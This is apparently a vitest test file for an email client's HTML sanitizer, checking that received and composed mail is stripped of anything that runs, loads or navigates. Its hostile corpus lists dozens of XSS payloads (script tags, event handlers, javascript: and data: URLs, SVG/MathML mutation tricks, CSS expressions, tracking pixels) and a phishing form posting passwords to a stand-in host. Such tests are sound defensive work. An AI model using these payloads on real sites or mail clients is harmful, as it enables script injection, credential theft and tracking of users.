import { JSDOM } from 'jsdom';
import createDOMPurify from 'dompurify';
import { describe, expect, it } from 'vitest';
import { isComposedLink, sanitizeComposedHtml, sanitizeReceivedMail } from './html-policy';

/** Hostile mail bodies: each must come out with nothing that runs, loads or navigates by itself. */
const CORPUS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><iframe src="javascript:alert(1)"></iframe></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<form action="https://evil.test/steal"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="background: url(https://tracker.evil.test/p.gif)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(https://evil.test/x.xml#x)">x</div>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>body { background: url("https://tracker.evil.test/p.gif") }</style>',
  '<p style="color:red">x</p><style>p{color:expression(alert(1))}</style>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<img srcset="https://tracker.evil.test/a.gif 1x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<video poster="javascript:alert(1)"><source src="x" onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="https://ok.test" ping="https://tracker.evil.test">x</a>',
  '<div data-bind="click: alert(1)">x</div>',
  '<<script>alert(1);//<</script>',
  '<img src=`x` onerror=`alert(1)`>',
  '<input onfocus=alert(1) autofocus>',
  '<isindex action="javascript:alert(1)" type=submit>',
  '</title><script>alert(1)</script>',
  '<div><p>unclosed <b>tags <script>alert(1)',
];

const checker = new JSDOM('').window;

const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'srcset', 'ping', 'data', 'srcdoc'];
const FORBIDDEN_ELEMENTS = 'script, iframe, frame, frameset, object, embed, form, input, button, meta, base, link, svg, math, template, video, audio, isindex';

/** Everything in the output that could execute code or fetch something unasked. */
function problems(html: string): string[] {
  const found: string[] = [];
  const doc = checker.document.implementation.createHTMLDocument('');
  doc.body.innerHTML = html;
  for (const el of doc.body.querySelectorAll(FORBIDDEN_ELEMENTS)) found.push(`element <${el.tagName.toLowerCase()}>`);
  for (const el of doc.body.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\s\x00-\x1f]/g, '').toLowerCase();
      if (name.startsWith('on')) found.push(`handler ${name}`);
      if (name.startsWith('data-')) found.push(`data attribute ${name}`);
      if (URL_ATTRS.includes(name)) {
        if (/^(javascript|vbscript):/.test(value)) found.push(`${name}=${value}`);
        if (value.startsWith('data:') && !(el.tagName === 'IMG' && name === 'src' && /^data:image\/(png|jpe?g|gif|webp);/.test(value))) found.push(`${name}=${value}`);
        if (['srcset', 'ping', 'background', 'poster', 'srcdoc', 'action', 'formaction'].includes(name)) found.push(`attribute ${name}`);
        if (el.tagName === 'IMG' && name === 'src' && /^(https?:)?\/\//.test(value)) found.push(`remote image ${value}`);
      }
      if (name === 'style' && /url\(|expression\(|behavior|binding|@import/.test(value)) found.push(`style ${value}`);
    }
  }
  for (const style of doc.querySelectorAll('style')) if (/url\(|expression\(|@import|behavior|binding/i.test(style.textContent ?? '')) found.push('style sheet');
  return found;
}

// One DOMPurify over jsdom, as the server has; the browser brings its own window (apps/web specs).
const purify = createDOMPurify(new JSDOM('').window as unknown as Window & typeof globalThis);
const received = (html: string, allowRemoteImages = false) =>
  sanitizeReceivedMail(purify, html, { allowRemoteImages, cidUrl: (cid) => (cid === 'logo@x' ? '/api/messages/1/attachments/2?inline=true' : undefined) });

describe('the hostile corpus', () => {
  it('the checker itself finds what it looks for', () => {
    expect(problems('<img src=x onerror=alert(1)><a href="javascript:x">y</a><iframe></iframe>')).toHaveLength(3);
    expect(problems('<img src="https://t.test/p.gif">')).toEqual(['remote image https://t.test/p.gif']);
  });

  it(`leaves nothing executable in ${CORPUS.length} hostile messages, in the received-mail profile`, () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(40);
    const failures = CORPUS.map((input) => ({ input, output: received(input).html })).filter((r) => problems(r.output).length > 0);
    expect(failures).toEqual([]);
  }, 30_000);

  it('and in the composed profile', () => {
    const failures = CORPUS.map((input) => ({ input, output: sanitizeComposedHtml(purify, input) })).filter((r) => problems(r.output).length > 0);
    expect(failures).toEqual([]);
  }, 30_000);

  it('with remote images allowed, only the remote images themselves come back', () => {
    const failures = CORPUS.map((input) => ({ input, output: received(input, true).html }))
      .map((r) => ({ ...r, found: problems(r.output).filter((p) => !p.startsWith('remote image')) }))
      .filter((r) => r.found.length > 0);
    expect(failures).toEqual([]);
  }, 30_000);
});

describe('received-mail profile', () => {
  it('keeps ordinary formatting, links (new tab, no referrer), inline raster images and cid: pictures', () => {
    const { html, remoteImagesBlocked } = received(
      '<h1>Hi</h1><p style="color:#333">Text <b>bold</b> <a href="https://example.test/">link</a> <a href="mailto:a@b.test">mail</a> <a href="#top">top</a></p>' +
        '<table><tr><td>cell</td></tr></table><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><img src="cid:logo@x"><img src="cid:%3Clogo@x%3E">',
    );
    expect(html).toContain('<h1>Hi</h1>');
    expect(html).toContain('style="color:#333"');
    expect(html).toContain('<a href="https://example.test/" target="_blank" rel="noopener noreferrer">link</a>');
    expect(html).toContain('href="mailto:a@b.test"');
    expect(html).toContain('<a href="#top">top</a>');
    expect(html).toContain('<td>cell</td>');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(html.match(/src="\/api\/messages\/1\/attachments\/2\?inline=true"/g)).toHaveLength(2);
    expect(remoteImagesBlocked).toBe(false);
  });

  it('removes remote images unless allowed and reports it; unknown cid:, relative and svg data: images go', () => {
    const blocked = received('<img src="https://tracker.test/p.gif"><img src="//tracker.test/q.gif">');
    expect(blocked.html).not.toContain('tracker.test');
    expect(blocked.remoteImagesBlocked).toBe(true);
    expect(received('<img src="https://tracker.test/p.gif">', true)).toEqual({ html: '<img src="https://tracker.test/p.gif">', remoteImagesBlocked: false });
    expect(received('<img src="cid:unknown@x"><img src="/api/auth/logout"><img src="data:image/svg+xml;base64,PHN2Zz4=">').html).toBe('<img><img><img>');
    expect(sanitizeReceivedMail(purify, '<img src="cid:logo@x">', { allowRemoteImages: false }).html).toBe('<img>');
  });

  it('leaves the instance without hooks, so one sanitize never leaks into the next', () => {
    received('<img src="https://tracker.test/p.gif">');
    expect(purify.sanitize('<a href="https://x.test/">x</a>')).toBe('<a href="https://x.test/">x</a>');
  });
});

describe('composed profile', () => {
  it('keeps the allowlist only: no styles, handlers, images, scripts; links only http(s)/mailto', () => {
    expect(
      sanitizeComposedHtml(
        purify,
        '<p onclick="x()" style="color:red">Hi <b>bold</b> <a href="javascript:alert(1)">bad</a> <a href="https://ok.test/">ok</a> <a href="mailto:a@b.test">m</a></p><script>alert(2)</script><img src="https://t.test/p.gif"><blockquote type="cite">q</blockquote><table><tr><td>c</td></tr></table>',
      ),
    ).toBe('<p>Hi <b>bold</b> <a>bad</a> <a href="https://ok.test/">ok</a> <a href="mailto:a@b.test">m</a></p><blockquote type="cite">q</blockquote><table><tbody><tr><td>c</td></tr></tbody></table>');
  });

  it('is narrower than received mail: what the reader shows (styles, images, new-tab links) the composer drops', () => {
    const shown = received('<p style="color:#333"><a href="https://x.test/">x</a><img src="data:image/png;base64,iVBORw0KGgo="></p>').html;
    expect(sanitizeComposedHtml(purify, shown)).toBe('<p><a href="https://x.test/">x</a></p>');
  });

  it('isComposedLink takes http, https and mailto only', () => {
    for (const url of ['https://x.test/', 'HTTP://x.test', ' mailto:a@b.test ']) expect(isComposedLink(url), url).toBe(true);
    for (const url of ['javascript:alert(1)', 'data:text/html,x', '//x.test', 'x.test', 'ftp://x.test']) expect(isComposedLink(url), url).toBe(false);
  });
});
